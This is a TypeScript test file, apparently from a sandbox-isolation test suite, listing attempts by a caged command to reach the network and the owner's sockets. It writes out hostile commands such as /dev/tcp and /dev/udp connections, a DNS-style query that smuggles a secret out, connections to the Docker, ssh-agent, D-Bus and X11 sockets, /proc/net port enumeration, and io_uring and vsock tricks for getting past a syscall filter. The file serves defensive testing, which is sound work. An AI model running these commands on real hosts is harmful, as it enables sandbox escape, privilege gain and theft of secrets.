/** A command in the cage reaches for the network, and for sockets of the owner's other programs. */
import { type Mechanism, script } from "../mechanism.ts";
import { systemCall } from "../system-calls.ts";

type Row = Omit<Parameters<typeof script>[1], "defence" | "harm">;

const network = (row: Row) =>
  script("network", { defence: "the cage's own network namespace", harm: "packet sent", ...row });
const sockets = (row: Row) =>
  script("sockets", { defence: "the cage's own view of the file system", harm: "packet sent", ...row });

const connect = (path: string) =>
  `perl -MIO::Socket::UNIX -e 'print IO::Socket::UNIX->new(Peer => $ARGV[0])->getline' "${path}"`;

export const networkRows: readonly Mechanism[] = [
  network({
    id: "loopback-by-bash",
    tries: "reach a program of the owner on loopback with bash alone",
    script: ({ services }) => `exec 5<>/dev/tcp/127.0.0.1/${services.tcpPort}; cat <&5; exec 5>&-`,
  }),
  network({
    id: "loopback-by-name",
    tries: "reach it by the name of this machine",
    script: ({ services }) => `exec 5<>/dev/tcp/localhost/${services.tcpPort} && cat <&5; exec 5>&-`,
  }),
  network({
    id: "any-address",
    tries: "reach loopback as 0.0.0.0",
    script: ({ services }) => `exec 5<>/dev/tcp/0.0.0.0/${services.tcpPort} && cat <&5; exec 5>&-`,
  }),
  network({
    id: "number-address",
    tries: "reach loopback by an address written as one number",
    script: ({ services }) => `exec 5<>/dev/tcp/2130706433/${services.tcpPort} && cat <&5; exec 5>&-`,
  }),
  network({
    id: "datagram",
    tries: "send a secret out in a datagram",
    script: ({ services }) => `echo secret >/dev/udp/127.0.0.1/${services.udpPort}; sleep 0.05`,
  }),
  network({
    id: "name-query",
    tries: "send a secret out as a name to look up",
    script: ({ services }) =>
      `perl -MIO::Socket::INET -e 'IO::Socket::INET->new(Proto => "udp", PeerAddr => "127.0.0.1", PeerPort => ${services.udpPort})->send("\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\4evil\\0\\0\\1\\0\\1")'; sleep 0.05`,
  }),
  network({
    id: "abstract-socket",
    tries: "reach a socket that has no place in the file system",
    script: ({ services }) =>
      `perl -MIO::Socket::UNIX -e 'print IO::Socket::UNIX->new(Peer => "\\0$ARGV[0]")->getline' ${services.abstractSocket}`,
  }),
  network({
    id: "from-background",
    tries: "reach the network from a program that outlives the command",
    script: ({ services }) =>
      `setsid bash -c 'sleep 0.1; exec 5<>/dev/tcp/127.0.0.1/${services.tcpPort}' >/dev/null 2>&1 & sleep 0.4`,
  }),
  {
    id: "network/open-ports",
    tries: "learn which ports the owner's programs listen on",
    defence: "the cage's own network namespace",
    harm: "line crossed",
    async attack({ sh }, { services, cross }) {
      const port = services.tcpPort.toString(16).toUpperCase().padStart(4, "0");
      if ((await sh("cat /proc/net/tcp /proc/self/net/tcp /proc/1/net/tcp")).includes(`0100007F:${port}`))
        cross("it was possible");
    },
  },
  {
    id: "network/socket-names",
    tries: "learn which sockets the owner's programs have",
    defence: "the cage's own network namespace",
    harm: "line crossed",
    async attack({ sh }, { services, cross }) {
      if ((await sh("cat /proc/net/unix")).includes(services.folder)) cross("it was possible");
    },
  },
  {
    id: "network/host-of-virtual-machine",
    tries: "open a socket to the host of a virtual machine",
    defence: "the filter of system calls",
    harm: "line crossed",
    async attack({ sh }, { cross }) {
      if ((await sh(`perl -MSocket -e 'print "opened" if socket(my $s, 40, SOCK_STREAM, 0)'`)).includes("opened"))
        cross("it was possible");
    },
  },
  {
    id: "network/ring",
    tries: "open sockets past the filter, through a ring of requests",
    defence: "the filter of system calls",
    harm: "line crossed",
    async attack({ sh }, { cross }) {
      const made = `$u = "\\0" x 200; print "made" if syscall(${systemCall.io_uring_setup}, 1, $u) >= 0`;
      if ((await sh(`perl -e '${made}'`)).includes("made")) cross("it was possible");
    },
  },
  sockets({
    id: "docker",
    tries: "have Docker do it, which is root",
    script: ({ services }) => `${connect(services.sockets["docker.sock"])}; ${connect("/var/run/docker.sock")}`,
  }),
  sockets({
    id: "ssh-agent",
    tries: "sign with the owner's ssh agent",
    script: ({ services }) => `${connect("$SSH_AUTH_SOCK")}; ${connect(services.sockets["ssh-agent"])}`,
  }),
  sockets({
    id: "session-bus",
    tries: "have the owner's desktop start a program",
    script: ({ services }) =>
      `BUS=\${DBUS_SESSION_BUS_ADDRESS#unix:path=}; ${connect("$BUS")}; ${connect(services.sockets.bus)}`,
  }),
  sockets({
    id: "display",
    tries: "watch the owner's keys on the display",
    script: ({ services }) => `${connect("/tmp/.X11-unix/X99")}; ${connect(services.sockets.x11)}`,
  }),
  sockets({
    id: "through-a-link",
    tries: "reach a socket through a link in the workspace",
    script: ({ services }) => `ln -s ${services.sockets["docker.sock"]} s; ${connect("./s")}`,
  }),
];
